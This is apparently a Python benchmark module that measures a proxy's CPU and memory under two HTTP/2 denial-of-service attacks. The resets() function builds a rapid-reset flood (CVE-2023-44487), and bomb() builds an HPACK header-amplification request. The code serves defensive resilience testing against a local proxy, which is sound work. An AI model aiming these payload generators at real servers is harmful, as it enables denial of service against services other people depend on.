"""Attacks over HTTP/2, and what they cost the proxy: CPU time, and memory at the peak.

resets  10,000 requests over each connection, each reset at once (CVE-2023-44487)
bomb    a field of 3,900 bytes that a second request repeats 16,000 times, one byte for each, over
        every connection

The peer may end a connection before it has taken everything. It has to go on serving afterwards.
"""

import selectors
import socket
import time
from collections.abc import Callable
from contextlib import ExitStack

from bench.load.footprint import FIRST, open_connections
from bench.load.frames import (
    ACK,
    GOAWAY,
    PING,
    RST_STREAM,
    Frame,
    frame,
    literal,
    preface,
    read_frames,
    request,
)
from bench.load.loads import Load
from bench.load.measure import Sample
from bench.load.probe import await_readiness, http2_fields, open_client
from bench.load.processes import BenchError, Process

RESETS = 10_000  # over a connection; cmux-proxy takes no more
_CANCEL = (8).to_bytes(4, "big")
_VALUE = "v" * 3900
_NEWEST = 0xBE  # a reference to the newest entry of the table; older ones follow
_REFERENCES = bytes([_NEWEST]) * 16_000
_LAST = b"attacked"
_TIMEOUT = 30.0
_BUSY = 0.002  # CPU seconds in a pause of which a proxy still works
_PAUSE = 0.1
_READ = 65536


def measure_attack(load: Load, proxy: Process) -> Sample:
    """Return the CPU milliseconds and the megabytes of an attack, on a new proxy.

    `taken` is the share of the resets that it took.
    """
    await_readiness(load, proxy)
    try:
        with ExitStack() as stack:
            open_connections(load, proxy, stack, FIRST)
        _await_rest(proxy)
        sample = _attack(load, proxy)
    except OSError as error:
        raise BenchError(f"under attack: {error}") from None
    await_readiness(load, proxy)
    return sample


def _attack(load: Load, proxy: Process) -> Sample:
    before, rss = proxy.usage(), proxy.restart_peak()
    with ExitStack() as stack:
        figures = _ATTACKS[load.scenario.mode](load, proxy, stack)
        _await_rest(proxy)
        used, peak = proxy.usage().since(before), proxy.peak_mb()
    return {"cpu_ms": used.total * 1000, "growth_mb": peak - rss, **figures}


def _reset_often(load: Load, proxy: Process, stack: ExitStack) -> Sample:
    taken_resets = 0
    for _ in range(load.scenario.connections):
        sock = stack.enter_context(open_client(load, proxy))
        taken_resets += taken(exchange(sock, resets(load)))
    return {"taken": taken_resets / load.scenario.connections / RESETS}


def resets(load: Load) -> bytes:
    """Return what a client sends over a connection that resets each of its requests at once."""
    fields = http2_fields(load)
    added = b"".join(literal(name, value, is_added=True) for name, value in fields.items())
    references = bytes(_NEWEST + place for place in reversed(range(len(fields))))
    frames = [preface()]
    for stream in range(1, 2 * RESETS, 2):
        frames.append(request(stream, {}, added if stream == 1 else references))
        frames.append(frame(RST_STREAM, 0, stream, _CANCEL))
    return b"".join(frames)


def _bomb_all(load: Load, proxy: Process, stack: ExitStack) -> Sample:
    for _ in range(load.scenario.connections):
        exchange(stack.enter_context(open_client(load, proxy)), bomb(load))
    return {}


def bomb(load: Load) -> bytes:
    """Return what a client sends whose second request repeats a large field of its first."""
    fields = http2_fields(load)
    first = request(1, fields, literal("x", _VALUE, is_added=True))
    return preface() + first + request(3, fields, _REFERENCES)


_ATTACKS: dict[str, Callable[[Load, Process, ExitStack], Sample]] = {
    "resets": _reset_often,
    "bomb": _bomb_all,
}


def exchange(sock: socket.socket, data: bytes) -> list[Frame]:
    """Send frames and a PING while reading; return what came until its answer, or until the end.

    Raises BenchError if the peer stands still.
    """
    to_send = memoryview(data + frame(PING, payload=_LAST))
    received = bytearray()
    answer = frame(PING, ACK, payload=_LAST)
    sock.setblocking(False)
    with selectors.DefaultSelector() as selector:
        selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
        while answer not in received:
            events = _events(selector, sock, bool(to_send))
            if events & selectors.EVENT_READ and not _read(sock, received):
                break
            if events & selectors.EVENT_WRITE:
                to_send = to_send[_sent(sock, to_send) :]
    return read_frames(bytes(received))[0]


def _events(selector: selectors.BaseSelector, sock: socket.socket, is_sending: bool) -> int:
    selector.modify(sock, selectors.EVENT_READ | selectors.EVENT_WRITE * is_sending)
    for _, events in selector.select(_TIMEOUT):
        return events
    raise BenchError(f"neither answers nor ends within {_TIMEOUT:.0f} s")


def _read(sock: socket.socket, received: bytearray) -> bool:
    """Read what is there; return whether the connection goes on."""
    try:
        data = sock.recv(_READ)
    except ConnectionError:
        return False
    received += data
    return bool(data)


def _sent(sock: socket.socket, data: memoryview) -> int:
    """Return how many bytes were sent: none to a peer that has ended, whose last words are read."""
    try:
        return sock.send(data)
    except ConnectionError:
        return 0


def taken(frames: list[Frame]) -> int:
    """Return how many requests the peer took: all, or those up to the last stream of its GOAWAY."""
    for one in frames:
        if one.kind == GOAWAY:
            return min(RESETS, (int.from_bytes(one.payload[:4], "big") + 1) // 2)
    return RESETS


def _await_rest(proxy: Process) -> None:
    """Wait until the proxy has done its work; raise BenchError if that takes too long."""
    deadline = time.monotonic() + _TIMEOUT
    before = proxy.usage()
    while time.monotonic() < deadline:
        time.sleep(_PAUSE)
        now = proxy.usage()
        if now.since(before).total < _BUSY:
            return
        before = now
    raise BenchError("works on without load")
